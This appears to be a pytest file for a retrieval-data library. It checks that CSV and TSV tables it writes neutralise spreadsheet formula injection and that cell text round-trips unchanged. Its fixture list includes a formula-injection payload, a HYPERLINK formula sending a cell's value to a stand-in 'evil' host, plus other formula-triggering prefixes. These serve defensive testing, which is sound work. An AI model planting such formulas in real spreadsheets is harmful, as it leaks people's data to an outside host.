"""Tables that people open: no cell is a formula, and what is read is what was written."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

import negatives as neg
from negatives.measure.review import draw_sample, read_review
from negatives.read.table import read_table, write_table
from tests.cli.commands import negatives

TEXTS = [
    '=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1",
    "''=1", "'quoted'", "plain", "a=b", " =1", "", "it's",
]  # fmt: skip


@pytest.mark.parametrize("ending", ["csv", "tsv"])
def test_no_cell_is_run_and_every_text_comes_back(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"table.{ending}"
    table = pl.DataFrame({"query_id": TEXTS, "value": [-1.5] * len(TEXTS)})
    write_table(table, path)
    with path.open(newline="") as file:
        rows = list(csv.reader(file, delimiter="\t" if ending == "tsv" else ","))
    assert not [row for row in rows[1:] if row[0][:1] in tuple("=+-@\t\r\n＝＋－＠")]
    assert [row[1] for row in rows[1:]] == ["-1.5"] * len(TEXTS), "numbers stay numbers"
    assert read_table(path)["query_id"].fill_null("").to_list() == TEXTS


def test_a_sample_with_formulas_is_judged_as_what_it_is(tmp_path: Path) -> None:
    (tmp_path / "data" / "qrels").mkdir(parents=True)
    documents = [f"{text}wing lift {row}" for row, text in enumerate(TEXTS)]
    corpus = pl.DataFrame({"_id": [f"=d{row}" for row in range(len(TEXTS))], "text": documents})
    corpus.write_ndjson(tmp_path / "data" / "corpus.jsonl")
    pl.DataFrame({"_id": ["-q", "@q"], "text": ["=wing", "+lift"]}).write_ndjson(
        tmp_path / "data" / "queries.jsonl"
    )
    (tmp_path / "data" / "qrels" / "test.tsv").write_text(
        "query-id\tcorpus-id\tscore\n-q\t=d0\t1\n@q\t=d1\t1\n"
    )
    out, sample = tmp_path / "run", tmp_path / "sample.csv"
    made = neg.mine(
        neg.Collection.load(tmp_path / "data"), out, sources=[neg.BM25(top=9)], pick=neg.Top()
    )
    written = draw_sample(made, 100, sample)
    table = read_table(sample)
    assert set(table["document"]) <= set(made.collection.corpus["text"])
    with sample.open(newline="") as file:
        judged = [[*row[:4], "1", *row[5:]] for row in csv.reader(file)][1:]
    with sample.open("a", newline="") as file:  # as a person fills it in, whose rows come last
        file.truncate(0)
        csv.writer(file).writerows([table.columns, *judged])
    review = read_review(sample, made)
    assert (review.judged, review.relevant, review.elsewhere) == (written, written, 0)
    values = tmp_path / "values.csv"
    told = negatives("evaluate", "bm25", tmp_path / "data", "--per-query", values)
    assert told.returncode == 0, told.stderr
    assert sorted(set(read_table(values)["query_id"])) == ["-q", "@q"]
    assert "'-q" in values.read_text()
